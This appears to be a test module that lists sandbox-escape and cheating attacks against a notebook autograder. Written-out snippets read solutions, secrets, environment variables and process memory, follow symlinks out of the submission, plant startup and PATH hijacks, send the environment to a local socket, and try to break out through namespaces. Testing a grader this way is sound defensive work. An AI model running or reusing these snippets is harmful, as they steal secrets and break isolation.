"""Against the files: those of the course, of the instructor and of the system, to be read or left changed."""

from tests.nngrade.attacks.attack import Attack, Link
from tests.nngrade.attacks.corpus.checks import SOLUTIONS

SHOW = """\
import glob, os
def show(*patterns):
    for pattern in patterns:
        for path in sorted(glob.glob(pattern, recursive=True, include_hidden=True))[:200]:
            try:
                with open(path, 'rb') as file:
                    print(path, file.read(200_000))
            except OSError as error:
                print(path, error.strerror)
"""

SEND = """\
import socket
def send(data):
    try:
        with socket.create_connection(('127.0.0.1', @PORT@), 1) as line:
            line.sendall(b'@@NAME@@ ' + data)
    except OSError as error:
        print(error.strerror)
"""

ATTACKS = (
    Attack(
        "solutions_run",
        "the instructor's source",
        "The solutions lie three folders up, and need only be run.",
        before=(
            "import json, os\n"
            "solved = {}\n"
            "for path in ('@ROOT@/source/logistic/logistic.ipynb', '../../../source/logistic/logistic.ipynb'):\n"
            "    if os.path.exists(path):\n"
            "        for cell in json.load(open(path))['cells']:\n"
            "            solved[cell['metadata'].get('nbgrader', {}).get('grade_id')] = ''.join(cell['source'])",
        ),
        cells={name: f"exec(solved['{name}'])" for name in SOLUTIONS},
    ),
    Attack(
        "source_read",
        "the instructor's source",
        "What I print is in my feedback.",
        before=(SHOW + "show('@ROOT@/source/**/*.ipynb', '../../source/**/*', '../../../source/**/*')",),
    ),
    Attack(
        "secret_read",
        "the course's secret",
        "With the secret, all hidden inputs are known.",
        before=(SHOW + "show('@ROOT@/secret', '@ROOT@/*', '/code/**/*secret*')",),
    ),
    Attack(
        "home_read",
        "the instructor's home",
        "Nobody hides letters from programs.",
        before=(SHOW + "show('@HOME@/**/*', os.path.expanduser('~/**/*'), '@TEMPORARY@')",),
    ),
    Attack(
        "environment_read",
        "the environment of the grader",
        "The process that grades me has words in its environment.",
        before=(
            SHOW
            + "print(sorted(os.environ.items()))\nshow('/proc/*/environ', '/proc/*/cmdline', '/proc/*/task/*/environ')",
        ),
    ),
    Attack(
        "memory_of_the_first",
        "the memory of other processes",
        "Root of all processes is process 1, and its memory is a file.",
        before=(
            "import os\n"
            "for process in ('1', str(os.getppid())):\n"
            "    try:\n"
            "        maps = open(f'/proc/{process}/maps').read().splitlines()\n"
            "        with open(f'/proc/{process}/mem', 'rb', buffering=0) as memory:\n"
            "            for line in maps:\n"
            "                first, last = (int(end, 16) for end in line.split()[0].split('-'))\n"
            "                if 'rw' in line and last - first < 20_000_000:\n"
            "                    memory.seek(first)\n"
            "                    data = memory.read(last - first)\n"
            "                    k = data.find(b'canary-')\n"
            "                    if k >= 0:\n"
            "                        print(data[k:k + 100])\n"
            "    except (OSError, ValueError, OverflowError) as error:\n"
            "        print(error)",
        ),
    ),
    Attack(
        "descriptors_of_others",
        "open files of other processes",
        "What others have open can be opened again through /proc.",
        before=(SHOW + "show('/proc/*/fd/*', '/proc/*/cwd/*', '/proc/*/root@HOME@/*')",),
    ),
    Attack(
        "disks",
        "the disks below the files",
        "Whoever may read the disk needs no file.",
        before=(
            "import os\n"
            "for name in ('sda', 'vda', 'xvda', 'nvme0n1', 'mem', 'kmem', 'kmsg', 'fuse', 'loop0'):\n"
            "    try:\n"
            "        print(name, os.read(os.open(f'/dev/{name}', os.O_RDONLY), 64))\n"
            "    except OSError as error:\n"
            "        print(name, error.strerror)",
        ),
    ),
    Attack(
        "a_link_for_the_data",
        "links in a submission",
        "The data file that I hand in is a link, and is read for me.",
        before=("print(open('letter.csv').read(), open('secret', 'rb').read())",),
        files={"letter.csv": Link("@HOME@/letter.txt"), "secret": Link("@ROOT@/secret")},
    ),
    Attack(
        "a_link_for_the_assignment_s_data",
        "links in a submission",
        "The assignment's own file is laid over mine, and so over what mine leads to.",
        files={"breast_cancer.csv": Link("@HOME@/letter.txt")},
    ),
    Attack(
        "a_link_for_a_folder",
        "links in a submission",
        "A folder that is a link is copied whole.",
        before=(SHOW + "show('course/**/*')",),
        files={"course": Link("@ROOT@/source")},
    ),
    Attack(
        "names_that_lead_out",
        "the names of files",
        "A name with dots in it leads to another folder.",
        before=(
            "import os\n"
            "os.makedirs('autograded', exist_ok=True)\n"
            "for name in ('..', '../..', '../../..'):\n"
            "    try:\n"
            "        open(f'{name}/left.txt', 'w').write('left')\n"
            "    except OSError as error:\n"
            "        print(error.strerror)",
        ),
        files={"..data": "1", "...": "2", "a\\..\\b": "3"},
    ),
    Attack(
        "packages_written",
        "the installed packages",
        "The next one imports what I left.",
        before=(
            "import numpy, os, site, sys\n"
            "for folder in (os.path.dirname(numpy.__file__), *sys.path, '/code', '/packages', '@ROOT@', '@HOME@'):\n"
            "    for name in ('sitecustomize.py', 'usercustomize.py', 'left.pth'):\n"
            "        try:\n"
            "            with open(os.path.join(folder, name), 'x') as file:\n"
            '                file.write(\'import os; os.environ["LEFT"] = "left"\\n\')\n'
            "        except OSError as error:\n"
            "            print(folder, error.strerror)",
        ),
    ),
    Attack(
        "startup_files",
        "the home of the kernel",
        "IPython runs what lies in the start-up folder of its profile.",
        before=(
            "import os\n"
            "for home in ('~', '@HOME@', '/tmp'):\n"
            "    folder = os.path.expanduser(f'{home}/.ipython/profile_default/startup')\n"
            "    try:\n"
            "        os.makedirs(folder, exist_ok=True)\n"
            "        with open(f'{folder}/00-left.py', 'w') as file:\n"
            '            file.write(\'import os; os.environ["LEFT"] = "left"\')\n'
            "    except OSError as error:\n"
            "        print(error.strerror)",
        ),
    ),
    Attack(
        "programs_on_the_path",
        "the search path",
        "Whoever calls git by its name calls mine.",
        before=(
            "import os\n"
            "for folder in (*os.environ['PATH'].split(':'), '.', '/tmp', '@HOME@/bin'):\n"
            "    try:\n"
            "        os.makedirs(folder, exist_ok=True)\n"
            "        path = os.path.join(folder, 'left-by-a-cheat')\n"
            "        with open(path, 'x') as file:\n"
            "            file.write('#!/bin/sh\\ntouch @ROOT@/left\\n')\n"
            "        os.chmod(path, 0o4777)\n"
            "    except OSError as error:\n"
            "        print(folder, error.strerror)",
        ),
    ),
    Attack(
        "called_out",
        "the network",
        "What I have read is sent to where I can fetch it.",
        before=(
            SHOW + SEND + "import os\n"
            "send(repr(sorted(os.environ.items())).encode())\n"
            "for address in ('127.0.0.1', '10.0.0.1', '0.0.0.0', 'localhost', '::1'):\n"
            "    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n"
            "        try:\n"
            "            line = socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, kind)\n"
            "            line.settimeout(0.2)\n"
            "            line.connect((address, @PORT@))\n"
            "            line.send(b'@@NAME@@ hello')\n"
            "        except OSError as error:\n"
            "            print(error.strerror)",
        ),
    ),
    Attack(
        "sockets_with_names",
        "the sockets of this machine",
        "Other programs listen at sockets that are files, or names.",
        before=(
            SEND
            + "names = ['\\0nngrade-worker-61184', '\\0nngrade-worker-61185', '@HOME@/socket', '/tmp/.X11-unix/X0']\n"
            "for path in names:\n"
            "    try:\n"
            "        line = socket.socket(socket.AF_UNIX)\n"
            "        line.settimeout(0.2)\n"
            "        line.connect(path)\n"
            "        print(repr(path), 'canary: connected')\n"
            "    except OSError as error:\n"
            "        print(repr(path), error.strerror)",
        ),
    ),
    Attack(
        "new_namespaces",
        "the walls themselves",
        "In a namespace of my own I am root, and mount what I like.",
        before=(
            "import ctypes, os\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "for flags in (0x10000000, 0x00020000, 0x10020000, 0x7e020000):\n"
            "    print(libc.unshare(flags), os.strerror(ctypes.get_errno()))\n"
            "print(libc.mount(b'none', b'/notebook', b'tmpfs', 0, b''), libc.umount2(b'/code', 2))\n"
            "print(libc.chroot(b'.'), libc.ptrace(16, 1, 0, 0), libc.setns(0, 0))\n"
            "for number in (0, 1000, 61184):\n"
            "    try:\n"
            "        os.setuid(number)\n"
            "        print(number, os.getuid())\n"
            "    except OSError as error:\n"
            "        print(error.strerror)",
        ),
    ),
)
